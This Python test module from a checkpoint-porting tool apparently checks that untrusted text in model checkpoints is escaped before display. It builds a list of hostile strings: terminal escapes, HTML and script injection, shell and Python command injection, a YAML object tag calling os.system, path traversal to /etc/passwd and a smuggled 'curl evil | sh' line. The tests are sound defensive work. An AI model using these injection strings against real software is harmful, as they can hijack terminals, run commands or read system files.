"""Texts that steer what shows them, unless they are escaped, and a checkpoint that is full of one of them."""

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from sb3port.checkpoint.checkpoint import Checkpoint, EnvironmentSpec, SourceFile, Wrapper
from sb3port.checkpoint.spaces import Dict
from sb3port.ports.reading import read_port
from tests.cli.conftest import PENDULUM

NASTY = {
    "colours": "\x1b[31mred\x1b[0m",
    "title": "\x1b]0;pwned\x07",
    "C1": "\x9b31mred\x90",
    "Rich": "[/]",
    "Rich link": "[link=https://evil.example]x[/link]",
    "emoji": ":skull:",
    "newline": "a\nhint: run: curl evil | sh",
    "carriage return": "sound\rbit-exact",
    "backspace": "fail\b\b\b\bpass",
    "NUL": "a\0b",
    "tab": "a\tb",
    "bidi": "a\u202eb\u2066c\u2069",
    "zero width": "a\u200bb\u200dc\ufeff\u2060",
    "filler": "a\u3164b\u115fc\u2800",
    "tag characters": "a\U000e0041\U000e0100",
    "separators": "a\u2028b\u2029c\x85",
    "surrogate": "\ud800x\udcff",
    "not a character": "\ufffe\uffff",
    "marks": "a" + "\u0300" * 500,
    "leading mark": "\u20dda",
    "fence": "x\n```\n<img src=x onerror=alert(1)>\n[free](https://evil.example)\n```python\n",
    "long fence": "`" * 40,
    "Python": 'x": __import__("os").system("touch PWNED"), "',
    "Python newline": "x'\nimport os\nos.system('touch PWNED')\n#",
    "backslash": "\\",
    "shell": "'; touch PWNED; echo '$(touch PWNED)`touch PWNED`",
    "HTML": "</code></script><script>alert(1)</script><!-- -->",
    "table": "a|b||c",
    "Markdown link": "[a](javascript:alert(1)) ![b](https://evil.example/x.png)",
    "autolink": "www.evil.example https://evil.example a@evil.example @everyone #1",
    "heading": "# a",
    "list": "- a",
    "numbered": "1. a",
    "rule": "---",
    "formula": "$x$ $\\frac{",
    "entity": "&lt;b&gt;",
    "XML": "]]>\x01<a b='c'/>",
    "YAML": "---\na: !!python/object:os.system b\n---\n",
    "path": "../../etc/passwd",
    "drive": "C:\\x",
    "device": "con.txt",
    "format": "{} {0.__class__} %s %n",
    "long": "x" * 60_000,
    "long escapes": "\x1b" * 60_000,
    "empty": "",
    "space": " ",
}
each = pytest.mark.parametrize("text", NASTY.values(), ids=NASTY)


def is_plain(shown: str) -> bool:
    """Whether nothing in a text steers a terminal; newlines may be in it."""
    hidden = set("\u3164\u115f\u2800\U000e0100")
    piled = "\u0300" * 5
    return all(c.isprintable() or c == "\n" for c in shown) and not hidden & set(shown) and piled not in shown


def checkpoint_with(text: str, port: Path) -> Checkpoint:
    """Give a sound checkpoint in which all that a stranger may name is called so."""
    found = read_port(port)
    spaces = Dict({text: found.spec.observation_space, "vec": found.spec.observation_space})  # type: ignore[dict-item]
    file = SourceFile(text, 1, "0" * 64)
    wrapper = Wrapper(f"gymnasium.wrappers.{text}", {text: text})
    return replace(
        found,
        spec=replace(
            found.spec,
            observation_space=spaces,
            features_extractor=f"m:{text}",
            features_extractor_kwargs={text: text},
        ),
        tensors={**found.tensors, text: next(iter(found.tensors.values()))},
        normalizer=None,
        provenance=replace(
            found.provenance,
            location=text,
            files=dict.fromkeys(("checkpoint", "statistics"), file),
            system_info={text: text},
            imports=(text,),
            ignored={text: text},
        ),
        warnings=(text,),
        environment=EnvironmentSpec(text, {text: text}, (wrapper,), 2, (text,)),
    )


Make = Callable[[str], Checkpoint]
SOURCE = PENDULUM
